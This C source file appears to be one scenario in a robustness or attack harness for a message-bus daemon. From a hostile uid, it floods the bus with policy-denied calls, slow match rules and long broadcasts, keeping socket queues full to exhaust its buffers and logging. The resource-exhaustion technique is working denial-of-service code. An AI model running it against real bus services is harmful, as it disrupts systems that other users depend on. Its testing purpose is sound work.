/* SPDX-License-Identifier: MIT */
#include "attack.h"
#include "rules.h"

#include <linux/sockios.h>
#include <stdio.h>
#include <stdlib.h>
#include <sys/ioctl.h>
#include <unistd.h>

/*
 * Calls that the policy denies, which are logged: the bus stops reading from a sender with many pending log
 * lines. Its later output arrives in pieces of all sizes, at any time; broadcasts compared with many rules
 * make the data plane slow, so that the pieces arrive together. --count connections do this.
 */

#define LONG_PIECE (1u << 15)
#define FILLED 70000
#define FULL 190000
#define MAX_PAUSE_US 400
#define FLOODERS 2

static void slow_rule(char *text, unsigned n)
{
    unsigned first = n % 62, second = first + 1 + n / 62 % (63 - first);
    snprintf(text, RULE_MAX, "interface='" ATTACK_INTERFACE "',arg%u%s='x',arg%u='x'", first,
             n & 1 ? "path" : "", second);
}

static void keep_the_bus_busy(void *argument)
{
    struct connection c = {0};
    struct buffer out = {0};
    (void)argument;
    hostile_set_uid();
    rules_join(1, slow_rule);
    attack_join(&c);
    put_signal(&out, NULL, 16);
    put_repeated(&out, LONG_PIECE);
    attack_flood(&c, &out, 1);
}

/* Keeps FILLED bytes in the socket, and adds one message whenever it contains that many. */
static void write_piece(struct connection *c, const struct buffer *one, const struct buffer *many)
{
    int queued = 0;
    hostile_discard(c->fd);
    if (ioctl(c->fd, SIOCOUTQ, &queued) || queued > FULL)
        return;
    attack_pour(c, queued < FILLED ? many : one);
    atomic_fetch_add(&shared->harm, 1);
}

void denied_calls(void *argument)
{
    int n = attack_options.count;
    struct connection *all = calloc((size_t)n, sizeof(*all));
    struct buffer one = {0}, many = {0};
    (void)argument;
    if (!all)
        die("out of memory");
    for (int i = 0; i < FLOODERS; i++)
        process_spawn("flooder", process_deadline(), keep_the_bus_busy, NULL);
    hostile_set_uid();
    for (int i = 0; i < n; i++)
        attack_join(&all[i]);
    put_message(&one, &(struct header){.type = CALL, .path = "/", .member = "a", .destination = all[0].name},
                NULL);
    buffer_put(&many, one.data, one.size);
    put_repeated(&many, LONG_PIECE);
    process_ready();
    for (;;) {
        for (int i = 0; i < n; i++)
            write_piece(&all[i], &one, &many);
        usleep((useconds_t)(random() % MAX_PAUSE_US));
    }
}
